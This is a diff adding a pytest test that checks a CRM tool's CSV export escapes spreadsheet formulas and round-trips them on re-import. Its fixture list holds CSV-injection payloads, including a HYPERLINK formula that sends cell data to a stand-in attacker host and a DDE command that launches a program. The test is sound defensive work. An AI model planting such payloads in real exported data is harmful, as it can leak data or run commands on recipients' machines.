@@ -138,3 +138,62 @@ def test_unknown_tenant_is_refused(workspace: tuple[Path, str, str]) -> None:
     result = crm(db, "contacts", "export", "--tenant", "nope", check=False)
     assert result.returncode == 1
     assert "TENANT_NOT_FOUND" in result.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def test_csv_export_escapes_formulas_and_import_reads_them_back(
+    workspace: tuple[Path, str, str],
+) -> None:
+    db, _, _ = workspace
+    source_tenant = json.loads(crm(db, "tenants", "create", "--name", "Src", "--json").stdout)
+    target_tenant = json.loads(crm(db, "tenants", "create", "--name", "Dst", "--json").stdout)
+    source = db.parent / "formulas.csv"
+    with source.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["id", "first_name", "last_name"])
+        for n, name in enumerate(FORMULAS):
+            writer.writerow([f"f-{n}", name, "Formula"])
+    imported = crm(
+        db, "contacts", "import", str(source), "--tenant", source_tenant["id"], "--mode", "live"
+    )
+    assert f"created {len(FORMULAS)}" in imported.stdout
+
+    exported = db.parent / "formulas-export.csv"
+    crm(
+        db,
+        "contacts",
+        "export",
+        "--tenant",
+        source_tenant["id"],
+        "--format",
+        "csv",
+        "--output",
+        str(exported),
+    )
+    with exported.open(newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    # No cell a spreadsheet would run: each formula is shown as text behind a `'`.
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    with exported.open(newline="") as handle:
+        names = {row["id"]: row["first_name"] for row in csv.DictReader(handle)}
+    assert names == {f"f-{n}": "'" + name for n, name in enumerate(FORMULAS)}
+
+    # JSON lines are not for spreadsheets: the values stay as they are.
+    lines = crm(
+        db, "contacts", "export", "--tenant", source_tenant["id"], "--format", "jsonl"
+    ).stdout.splitlines()
+    assert sorted(json.loads(line)["first_name"] for line in lines) == sorted(FORMULAS)
+
+    # The export re-imports to the very same names.
+    crm(db, "contacts", "import", str(exported), "--tenant", target_tenant["id"], "--mode", "live")
+    lines = crm(
+        db, "contacts", "export", "--tenant", target_tenant["id"], "--format", "jsonl"
+    ).stdout.splitlines()
+    assert sorted(json.loads(line)["first_name"] for line in lines) == sorted(FORMULAS)
